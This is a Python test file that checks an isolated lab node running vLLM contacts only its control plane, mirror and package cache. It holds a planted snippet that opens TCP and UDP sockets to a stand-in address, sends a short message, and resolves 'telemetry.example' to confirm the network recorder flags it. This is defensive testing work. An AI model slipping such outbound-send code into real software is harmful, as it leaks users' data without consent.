"""What a node sends out in a whole run, from the one command to the end of its engine: all is seen.

Real vLLM on a host that had nothing of ours, with its packages from a package cache and its weights
from a mirror. `make bench NAME=join` says how long it took.
"""

import hashlib
import tempfile
from pathlib import Path

import pytest

from tests.engine_fixtures import engine_environment, tiny_model
from tests.flows.stoa import until
from tests.lab import packages, small_engine
from tests.lab.joining import MIRROR, PACKAGES, Joined, joined
from tests.lab.lab import NETWORK_V4
from tests.lab.marks import needs_lab, reaches_hosts

__all__ = ["engine_environment", "tiny_model"]

pytestmark = [pytest.mark.engine, needs_lab, reaches_hosts, pytest.mark.xdist_group("lab")]

PLANTED = """
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    with socket.socket(socket.AF_INET, kind) as planted:
        planted.settimeout(1)
        try:
            planted.connect(("192.0.2.9", 443))
            planted.send(b"what we did today")
        except OSError:
            pass
try:
    socket.getaddrinfo("telemetry.example", 443)
except OSError:
    pass
"""


def test_a_node_reaches_the_control_plane_the_mirror_and_the_package_cache_alone(
    tiny_model: Path,
) -> None:
    with (
        tempfile.TemporaryDirectory(prefix="stoa-join-", dir="/tmp") as folder,
        joined(Path(folder), tiny_model / "model", print) as found,
    ):
        assert found.node.output.read_text().count("the agent's packages are installed") == 1
        install_an_engine(found)
        found.stop()
        assert found.strangers() == []
        reached = {one.address for one in found.site.net.recorder.sent(found.node.host)}
        assert reached == {found.site.controlplane.address, MIRROR, PACKAGES}
        # Whoever had sent anything else would have been seen.
        found.node.host.run(["python3", "-c", PLANTED], found.env, cwd="/")
        until(lambda: len(found.strangers()) >= 3, what="the planted ones are seen")
        planted = {(one.protocol, one.address, one.name) for one in found.strangers()}
        assert planted == {
            ("tcp", "192.0.2.9", ""),
            ("udp", "192.0.2.9", ""),
            ("dns", f"{NETWORK_V4}.1", "telemetry.example"),
        }


def install_an_engine(found: Joined) -> None:
    """As the agent does it, of packages that are small: vLLM's come to gigabytes."""
    packages.wheel(found.wheels, "torch", "0.0.1+cpu", "CPU = True\n")
    (idna,) = found.wheels.glob("idna-*.whl")
    requirement = "idna==" + idna.name.split("-")[1]
    digest = hashlib.sha256(idna.read_bytes()).hexdigest()
    code = found.bundle()
    env = found.env | {"PYTHONPATH": f"{code}:{code / 'platform'}"}
    program = [str(code / ".venv/bin/python"), "-c", Path(small_engine.__file__).read_text()]
    cache = "/tmp/cache"  # of the host
    said = found.node.host.run([*program, requirement, digest, cache], env, cwd="/")
    assert (found.node.host.file(said.strip()) / "stoa-stamp.json").exists()
